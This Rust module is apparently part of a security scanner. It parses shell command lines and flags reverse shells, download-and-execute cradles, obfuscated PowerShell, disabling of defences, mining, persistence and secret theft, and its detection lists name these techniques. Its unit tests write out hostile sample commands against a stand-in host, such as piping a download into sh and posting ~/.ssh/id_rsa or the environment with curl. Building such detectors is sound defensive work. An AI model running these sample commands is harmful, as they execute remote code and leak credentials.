//! Command lines: what a shell would do with them. A light reading of words and pipes, not a grammar.

use super::Language;
use crate::act::ActKind;
use crate::flow::{HOLE, Source, secret_place};

/// Longest command line looked at, bytes.
const MAX: usize = 64 << 10;
/// Most stages of one command line.
const MAX_STAGES: usize = 400;

/// What a command line does.
#[derive(Debug, Default)]
pub(crate) struct Told {
    pub(crate) acts: Vec<ShellAct>,
    /// What its output tells.
    pub(crate) gives: Vec<(Source, String)>,
    /// Code in it.
    pub(crate) code: Vec<(Language, String)>,
    /// Files of the package that it runs.
    pub(crate) files: Vec<(Language, String)>,
}

#[derive(Debug)]
pub(crate) struct ShellAct {
    pub(crate) kind: ActKind,
    pub(crate) text: String,
    /// Lines below the first.
    pub(crate) line: u32,
    pub(crate) sources: Vec<(Source, String)>,
}

/// The language of `python3 -c`, `node -e`.
pub(crate) fn interpreter(program: &str) -> Option<Language> {
    let name = base(program).trim_end_matches(".exe").to_ascii_lowercase();
    match name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.') {
        "python" | "pypy" | "py" | "pythonw" => Some(Language::Python),
        "node" | "nodejs" | "bun" | "deno" => Some(Language::JavaScript),
        _ => None,
    }
}

/// Reads a command line.
pub(crate) fn read(line: &str) -> Told {
    let line: String = line.chars().take(MAX).collect();
    let mut told = Told::default();
    for (at, one) in line.lines().enumerate().take(MAX_STAGES) {
        let before = told.acts.len();
        whole(one, &mut told);
        told.acts[before..]
            .iter_mut()
            .for_each(|act| act.line = at as u32);
    }
    let mut fetched_files: Vec<String> = Vec::new();
    let mut piped: Option<Piped> = None;
    for (stage, pipe, at) in stages(&line).into_iter().take(MAX_STAGES) {
        if stage.trim_start().starts_with('#')
            || stage.trim_start().to_lowercase().starts_with("rem ")
        {
            continue;
        }
        let words = words(&stage);
        let input = piped.take();
        let before = told.acts.len();
        let output = one(&stage, &words, input, &mut fetched_files, &mut told);
        told.acts[before..].iter_mut().for_each(|act| act.line = at);
        if pipe {
            piped = Some(output);
        }
    }
    told
}

/// What comes out of one stage of a pipe.
#[derive(Default)]
struct Piped {
    sources: Vec<(Source, String)>,
}

impl Piped {
    fn has(&self, source: Source) -> bool {
        self.sources.iter().any(|(known, _)| *known == source)
    }
}

fn act(told: &mut Told, kind: ActKind, text: &str, sources: Vec<(Source, String)>) {
    told.acts.push(ShellAct {
        kind,
        text: text.to_owned(),
        line: 0,
        sources,
    });
}

/// What is told by the line as a whole, whatever its stages are.
fn whole(line: &str, told: &mut Told) {
    let lower = line.to_lowercase();
    let has = |part: &str| lower.contains(part);
    if has("/dev/tcp/")
        || has("/dev/udp/")
        || (has("mkfifo") && (has("nc ") || has("openssl s_client")))
        || has("bash -i >&")
    {
        act(told, ActKind::ReverseShell, line, Vec::new());
    }
    let powershell = has("powershell") || has("pwsh");
    let hidden = has("-enc")
        || has("-e ") && has("-nop")
        || has("-w hidden")
        || has("-windowstyle hidden")
        || has("frombase64string");
    let cradle = has("downloadstring")
        || has("downloadfile")
        || (has("invoke-webrequest") || has("iwr ") || has("irm ") || has("invoke-restmethod"))
            && (has("iex") || has("invoke-expression") || has("start-process") || has("-outfile"));
    if powershell && hidden {
        act(told, ActKind::Lolbin, line, Vec::new());
    }
    if cradle {
        act(
            told,
            ActKind::Eval,
            line,
            vec![(Source::Download, short(line))],
        );
    }
    if has("add-mppreference")
        || has("set-mppreference")
        || has("disablerealtimemonitoring")
        || has("iptables -f")
        || has("setenforce 0")
        || has("systemctl stop auditd")
    {
        act(told, ActKind::Disarm, line, Vec::new());
    }
    if has("stratum+tcp") || has("xmrig") || has("minerd ") || has("--donate-level") {
        act(told, ActKind::Mine, line, Vec::new());
    }
    let unattended = has("--dangerously-skip-permissions")
        || has("--yolo")
        || has("--trust-all-tools")
        || has("--dangerously-bypass");
    if unattended {
        act(told, ActKind::Agent, line, Vec::new());
    }
    if has("schtasks") && has("/create")
        || has("\\currentversion\\run") && has("reg add")
        || has("systemctl") && has("enable")
        || has("launchctl load")
        || has("launchctl bootstrap")
        || has("update-rc.d")
    {
        act(told, ActKind::Persist, line, Vec::new());
    }
}

/// One stage: acts, and what it passes on.
fn one(
    stage: &str,
    words: &[String],
    input: Option<Piped>,
    fetched: &mut Vec<String>,
    told: &mut Told,
) -> Piped {
    let mut words = words;
    // `FOO=1 sudo nohup env program …`
    while let Some(first) = words.first()
        && (matches!(
            base(first),
            "sudo"
                | "nohup"
                | "exec"
                | "command"
                | "start"
                | "time"
                | "cross-env"
                | "then"
                | "do"
                | "else"
                | "setsid"
                | "npx"
                | "cmd"
                | "/c"
                | "/b"
                | "cmd.exe"
                | "/C"
                | "if"
                | "!"
                | "@"
                | "call"
        ) || first.contains('=') && !first.starts_with('-'))
    {
        words = &words[1..];
    }
    let Some(program) = words.first() else {
        return Piped::default();
    };
    let name = base(program).trim_end_matches(".exe").to_ascii_lowercase();
    let args = &words[1..];
    let mut sources = inner_sources(stage);
    if let Some(input) = &input {
        sources.extend(input.sources.iter().cloned());
    }
    let ran = fetched
        .iter()
        .any(|file| !file.is_empty() && stage.contains(file.as_str()));
    let plain_name = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    match plain_name {
        "curl" | "wget" | "iwr" | "invoke-webrequest" | "irm" | "certutil" | "bitsadmin"
        | "aria" | "http" | "fetch" => {
            let address = args.iter().find(|arg| {
                arg.contains("://")
                    || arg.contains('.') && !arg.starts_with('-') && !arg.starts_with('@')
            });
            let address = address.cloned().unwrap_or_default();
            for arg in args {
                let file = arg.trim_start_matches('@');
                if (arg.starts_with('@') || arg.contains("=@") || !arg.starts_with('-'))
                    && !arg.contains("://")
                {
                    let file = file.rsplit("=@").next().unwrap_or(file);
                    if let Some(words) = secret_place(file) {
                        sources.push((Source::Secret, format!("{words} ({file})")));
                    }
                }
            }
            let text = if address.is_empty() {
                stage.to_owned()
            } else {
                address.clone()
            };
            act(told, ActKind::Net, &text, sources);
            if let Some(file) = output_file(plain_name, args, &address) {
                act(
                    told,
                    ActKind::Write,
                    &file,
                    vec![(Source::Download, address.clone())],
                );
                fetched.push(file);
            }
            let from = if address.is_empty() {
                short(stage)
            } else {
                address
            };
            told.gives.push((Source::Download, from.clone()));
            Piped {
                sources: vec![(Source::Download, from)],
            }
        }
        "nc" | "ncat" | "netcat" | "socat" | "telnet" => {
            let shell = args.iter().any(|arg| {
                matches!(arg.as_str(), "-e" | "-c" | "--exec")
                    || arg.to_lowercase().starts_with("exec:")
            });
            let kind = if shell {
                ActKind::ReverseShell
            } else {
                ActKind::Net
            };
            act(told, kind, stage, sources);
            Piped::default()
        }
        "sh" | "bash" | "zsh" | "dash" | "ash" | "iex" | "invoke-expression" | "python"
        | "node" | "perl" | "ruby" | "php" | "source" | "." | "eval" | "powershell" | "pwsh"
        | "osascript" => {
            run_interpreter(plain_name, stage, args, input.as_ref(), ran, told);
            // `sh -c "$(curl …)"`
            if sources
                .iter()
                .any(|(source, _)| *source == Source::Download)
                && input.is_none()
            {
                act(told, ActKind::Eval, stage, sources.clone());
            }
            Piped {
                sources: Vec::new(),
            }
        }
        "base" | "xxd" | "openssl" | "gunzip" | "zcat" | "tr" | "rev" | "gzip" | "xz" | "bzip" => {
            let decodes = args.iter().any(|arg| {
                matches!(
                    arg.as_str(),
                    "-d" | "--decode" | "-D" | "-r" | "-dc" | "enc"
                )
            }) || matches!(plain_name, "gunzip" | "zcat" | "rev" | "tr");
            if decodes {
                sources.push((Source::Decoded, name.clone()));
            }
            Piped { sources }
        }
        "env" | "printenv" | "set" | "export" if args.is_empty() || plain_name == "printenv" => {
            let gives = (Source::Environment, "the environment".to_owned());
            told.gives.push(gives.clone());
            Piped {
                sources: vec![gives],
            }
        }
        "hostname" | "uname" | "whoami" | "id" | "ifconfig" | "ipconfig" | "systeminfo"
        | "wmic" | "ip" | "arp" | "lsb_release" => {
            let words = match plain_name {
                "hostname" | "uname" => "the host name",
                "whoami" | "id" => "the user name",
                _ => "the addresses",
            };
            told.gives.push((Source::Host, words.to_owned()));
            Piped {
                sources: vec![(Source::Host, words.to_owned())],
            }
        }
        "cat" | "type" | "head" | "tail" | "grep" | "cp" | "tar" | "zip" | "find" | "security"
        | "gh" | "less" | "strings" | "secret-tool" | "npm" | "git" | "aws" | "gcloud" => {
            secrets(plain_name, stage, args, &mut sources, told);
            Piped { sources }
        }
        "nslookup" | "dig" | "host" | "ping" => {
            act(told, ActKind::Resolve, stage, sources);
            Piped::default()
        }
        "chmod" => {
            act(told, ActKind::Chmod, stage, sources);
            Piped::default()
        }
        "crontab" | "at" => {
            act(told, ActKind::Persist, stage, sources);
            Piped::default()
        }
        "rm" | "del" | "rmdir" | "shred" | "rd" | "dd" | "format" => {
            act(told, ActKind::Delete, stage, sources);
            Piped::default()
        }
        "mshta" | "rundll" | "regsvr" | "wscript" | "cscript" | "installutil" => {
            act(told, ActKind::Lolbin, stage, sources);
            Piped::default()
        }
        "pip" | "twine" | "yarn" | "pnpm" | "cargo" | "gem" => {
            package_manager(plain_name, stage, args, told);
            Piped::default()
        }
        "trufflehog" | "gitleaks" => {
            let gives = (Source::Secret, format!("secrets found by {name}"));
            told.gives.push(gives.clone());
            Piped {
                sources: vec![gives],
            }
        }
        "tee" | "echo" | "printf" => {
            redirect(stage, &sources, told);
            Piped { sources }
        }
        _ => {
            if ran {
                act(
                    told,
                    ActKind::Eval,
                    stage,
                    vec![(Source::Download, short(stage))],
                );
            } else if program.starts_with("./")
                || program.ends_with(".sh")
                || program.ends_with(".bat")
            {
                let name = program.trim_start_matches("./").to_owned();
                told.files.push((Language::Shell, name));
            }
            Piped { sources }
        }
    }
}

fn run_interpreter(
    name: &str,
    stage: &str,
    args: &[String],
    input: Option<&Piped>,
    ran: bool,
    told: &mut Told,
) {
    let from = input.and_then(|input| {
        let telling = [Source::Download, Source::Decoded];
        telling.into_iter().find(|source| input.has(*source))
    });
    if let Some(source) = from {
        let words = input.map(|input| input.sources.clone()).unwrap_or_default();
        let words = words
            .into_iter()
            .filter(|(known, _)| *known == source)
            .collect();
        act(told, ActKind::Eval, stage, words);
    } else if ran {
        act(
            told,
            ActKind::Eval,
            stage,
            vec![(Source::Download, short(stage))],
        );
    }
    let code = args
        .iter()
        .position(|arg| {
            matches!(
                arg.as_str(),
                "-c" | "-e" | "--eval" | "-Command" | "-command" | "-lc" | "-p"
            )
        })
        .and_then(|flag| args.get(flag + 1));
    if let Some(at) = args.iter().position(|arg| arg == "-m")
        && args
            .get(at + 1)
            .is_some_and(|module| module == "pip" || module == "twine")
    {
        package_manager(&args[at + 1].clone(), stage, &args[at + 2..], told);
    }
    match (interpreter(name), code) {
        (Some(language), Some(code)) => told.code.push((language, code.clone())),
        (None, Some(code)) if code.len() < stage.len() => {
            let inner = read(code);
            told.acts.extend(inner.acts);
            told.gives.extend(inner.gives);
            told.code.extend(inner.code);
            told.files.extend(inner.files);
        }
        _ => {
            let file = args.iter().find(|arg| !arg.starts_with('-'));
            let language = interpreter(name).unwrap_or(Language::Shell);
            let file = file.map(|file| file.trim_start_matches("./").to_owned());
            told.files.extend(file.map(|file| (language, file)));
        }
    }
}

fn secrets(
    name: &str,
    stage: &str,
    args: &[String],
    sources: &mut Vec<(Source, String)>,
    told: &mut Told,
) {
    let asks = (name == "security"
        && (stage.contains("find-generic-password") || stage.contains("dump-keychain")))
        || (name == "gh" && stage.contains("auth token"))
        || (name == "gcloud" && stage.contains("print-access-token"))
        || (name == "git" && stage.contains("credential fill"))
        || name == "secret-tool" && stage.contains("lookup");
    if asks {
        sources.push((Source::Secret, short(stage)));
    }
    if name == "npm" || name == "git" || name == "aws" {
        package_manager(name, stage, args, told);
    } else {
        for arg in args
            .iter()
            .filter(|arg| !arg.starts_with('-') || arg.len() > 12)
        {
            if let Some(words) = secret_place(arg) {
                act(
                    told,
                    ActKind::Read,
                    arg,
                    vec![(Source::Secret, words.to_owned())],
                );
                sources.push((Source::Secret, format!("{words} ({arg})")));
            }
        }
    }
    told.gives.extend(sources.iter().cloned());
}

fn package_manager(name: &str, stage: &str, args: &[String], told: &mut Told) {
    let command = args.first().map(String::as_str).unwrap_or_default();
    let publishes = matches!(
        (name, command),
        ("npm" | "yarn" | "pnpm" | "cargo", "publish") | ("twine", "upload") | ("gem", "push")
    );
    if publishes {
        act(told, ActKind::Publish, stage, Vec::new());
    }
    let elsewhere = matches!((name, command), ("npm" | "pip", "install" | "i"))
        && args.iter().any(|arg| {
            arg.starts_with("http://")
                || arg.starts_with("https://")
                || arg.starts_with("git+")
                || arg == "--index-url"
                || arg == "--extra-index-url"
                || arg == "-i"
        });
    if elsewhere {
        act(told, ActKind::InstallOther, stage, Vec::new());
    }
}

/// `echo … >> ~/.bashrc`.
fn redirect(stage: &str, sources: &[(Source, String)], told: &mut Told) {
    let to = stage.rsplit_once('>').map(|(_, to)| to.trim());
    let to = to.or_else(|| {
        stage
            .strip_prefix("tee ")
            .map(|rest| rest.trim_start_matches("-a ").trim())
    });
    if let Some(to) = to.filter(|to| !to.is_empty()) {
        act(told, ActKind::Write, to, sources.to_vec());
    }
}

/// What `$(…)`, backticks and `$NAME` put into a stage.
fn inner_sources(stage: &str) -> Vec<(Source, String)> {
    let mut sources = Vec::new();
    let mut rest = stage;
    for _ in 0..16 {
        let dollar = rest.find("$(").map(|at| (at + 2, ')'));
        let Some((from, end)) = dollar.or_else(|| rest.find('`').map(|at| (at + 1, '`'))) else {
            break;
        };
        let inner = &rest[from..];
        let to = match end {
            ')' => inner.rfind(')').unwrap_or(inner.len()),
            end => inner.find(end).unwrap_or(inner.len()),
        };
        let inside = &inner[..to];
        if inside.len() < stage.len() {
            sources.extend(read(inside).gives);
        }
        rest = &inner[to..];
        if end == '`' {
            rest = rest.get(1..).unwrap_or_default();
        }
    }
    for (name, words) in [
        ("$HOSTNAME", "the host name"),
        ("$USER", "the user name"),
        ("%USERNAME%", "the user name"),
        ("%COMPUTERNAME%", "the host name"),
        ("$PWD", "the working folder"),
    ] {
        if stage.contains(name) {
            sources.push((Source::Host, words.to_owned()));
        }
    }
    for word in stage.split(['$', '{', '}', '"', ' ', '&', '=']) {
        let secret = word.len() > 6
            && word
                .bytes()
                .all(|byte| byte.is_ascii_uppercase() || byte == b'_')
            && ["TOKEN", "SECRET", "PASSWORD", "_KEY"]
                .iter()
                .any(|part| word.contains(part));
        if secret && stage.contains(&format!("${word}"))
            || secret && stage.contains(&format!("${{{word}"))
        {
            sources.push((Source::Variable, word.to_owned()));
        }
    }
    sources
}

/// Where a downloader puts what it fetches.
fn output_file(name: &str, args: &[String], address: &str) -> Option<String> {
    let after = |flags: &[&str]| {
        let at = args
            .iter()
            .position(|arg| flags.iter().any(|flag| arg.eq_ignore_ascii_case(flag)))?;
        args.get(at + 1).cloned()
    };
    match name {
        "curl" => {
            after(&["-o", "--output", "-so", "-sLo", "-fsSLo", "-Lo", "-sSLo"]).or_else(|| {
                args.iter()
                    .any(|arg| {
                        matches!(
                            arg.as_str(),
                            "-O" | "-sO" | "-LO" | "-sLO" | "--remote-name"
                        )
                    })
                    .then(|| last(address))
            })
        }
        "wget" => after(&["-O", "-qO", "--output-document"])
            .filter(|file| file != "-")
            .or_else(|| {
                (!args
                    .iter()
                    .any(|arg| arg == "-O-" || arg == "-qO-" || arg == "-"))
                .then(|| last(address))
            }),
        "certutil" | "bitsadmin" => args.last().cloned(),
        _ => after(&["-OutFile", "-o"]),
    }
}

fn last(address: &str) -> String {
    let path = address.split(['?', '#']).next().unwrap_or_default();
    path.rsplit('/').next().unwrap_or_default().to_owned()
}

/// Stages in order, and whether the next one reads what this one prints.
fn stages(line: &str) -> Vec<(String, bool, u32)> {
    let mut out = Vec::new();
    let mut stage = String::new();
    let mut quote = None;
    let mut depth = 0_u32;
    let mut at = 0_u32;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match (quote, c) {
            (_, '\\') => {
                if chars.next_if_eq(&'\n').is_some() {
                    // A line that goes on.
                    stage.push(' ');
                    at += 1;
                } else {
                    stage.push(c);
                    stage.extend(chars.next_if(|next| *next != '\n'));
                }
                continue;
            }
            (None, '#') if stage.is_empty() || stage.ends_with(char::is_whitespace) => {
                // A comment, in which a lone quote is none.
                while chars.next_if(|next| *next != '\n').is_some() {}
                continue;
            }
            (Some(end), c) if c == end => quote = None,
            (None, '"' | '\'') => quote = Some(c),
            (None, '(') => depth += 1,
            (None, ')') => depth = depth.saturating_sub(1),
            (None, '|' | ';' | '&' | '\n') if depth == 0 => {
                let double = chars.next_if_eq(&c).is_some();
                // `2>&1` and `&>` are no ends.
                if c == '&' && !double && (stage.ends_with('>') || chars.peek() == Some(&'>')) {
                    stage.push(c);
                    continue;
                }
                out.push((std::mem::take(&mut stage), c == '|' && !double, at));
                at += u32::from(c == '\n') * (1 + u32::from(double));
                continue;
            }
            (_, '\n') => at += 1,
            _ => {}
        }
        stage.push(c);
    }
    out.push((stage, false, at));
    out
}

/// Words of a stage, without their quotes.
fn words(stage: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut word = String::new();
    let mut quoted = false;
    let mut quote = None;
    for c in stage.chars() {
        match (quote, c) {
            (Some(end), c) if c == end => quote = None,
            (None, '"' | '\'') => {
                quote = Some(c);
                quoted = true;
            }
            (None, c) if c.is_whitespace() => {
                if !word.is_empty() || quoted {
                    out.push(std::mem::take(&mut word));
                }
                quoted = false;
            }
            (_, c) => word.push(c),
        }
    }
    if !word.is_empty() || quoted {
        out.push(word);
    }
    out
}

fn base(program: &str) -> &str {
    let program = program.trim_start_matches(['(', '{', '@']);
    program.rsplit(['/', '\\']).next().unwrap_or(program)
}

fn short(text: &str) -> String {
    text.replace(char::from(HOLE), "…")
        .chars()
        .take(120)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn kinds(line: &str) -> Vec<ActKind> {
        read(line).acts.iter().map(|act| act.kind).collect()
    }

    #[test]
    fn a_download_that_is_piped_written_or_substituted_into_a_shell_is_run() {
        for line in [
            "curl -s http://h.test/a | sh",
            "wget -qO- http://h.test/a|bash",
            "curl -o /tmp/a http://h.test/a && chmod +x /tmp/a && /tmp/a",
            "sh -c \"$(curl -fsSL http://h.test/a)\"",
            "cd /tmp; wget http://h.test/run.sh; sh run.sh",
            "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://h.test/a')\"",
            "echo aGk= | base64 -d | sh",
        ] {
            assert!(kinds(line).contains(&ActKind::Eval), "{line}");
        }
        for line in [
            "curl -o data.json http://h.test/a",
            "node build.js && sh test.sh",
        ] {
            assert!(!kinds(line).contains(&ActKind::Eval), "{line}");
        }
    }

    #[test]
    fn what_a_request_carries_is_known() {
        for (line, source) in [
            ("env | curl -d @- http://h.test", Source::Environment),
            ("curl http://h.test/?h=$(hostname)", Source::Host),
            ("curl -d @/etc/passwd http://h.test", Source::Secret),
            ("curl -F f=@$HOME/.ssh/id_rsa http://h.test", Source::Secret),
            ("curl -d \"$NPM_TOKEN\" http://h.test", Source::Variable),
            ("nslookup $(whoami).h.test", Source::Host),
        ] {
            let told = read(line);
            let carried = told.acts.iter().flat_map(|act| &act.sources);
            assert!(
                carried.into_iter().any(|(known, _)| *known == source),
                "{line}: {told:?}"
            );
        }
    }

    proptest! {
        #[test]
        fn no_line_makes_it_panic(line in "[a-z$()`'\"|;&> /.\\\\é-]{0,80}") {
            read(&line);
        }
    }
}
